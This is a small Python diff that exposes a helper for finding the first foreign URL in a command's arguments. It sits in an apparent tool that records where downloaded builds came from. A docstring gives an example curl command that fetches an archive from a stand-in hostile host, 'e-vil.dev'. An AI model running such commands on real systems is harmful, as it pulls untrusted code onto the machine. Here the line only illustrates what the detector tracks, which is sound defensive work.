@@ -89,6 +89,11 @@ def _foreign_word(argv: tuple[str, ...]) -> str | None:
     return None
 
 
+def foreign_word(argv: tuple[str, ...]) -> str | None:
+    """The first foreign URL among ``argv``'s words (round 40, lead fa: :mod:`downloaded_builds`)."""
+    return _foreign_word(argv)
+
+
 def record_download(scene: Scene, view: View, state: SessionState) -> None:
     """A downloader's files keep the foreign URL they came from (``curl -o /tmp/a.tgz https://e-vil.dev/a.tgz``)."""
     if view.command.program not in DOWNLOADERS or len(state.fetched) >= _MAX_FETCHED:
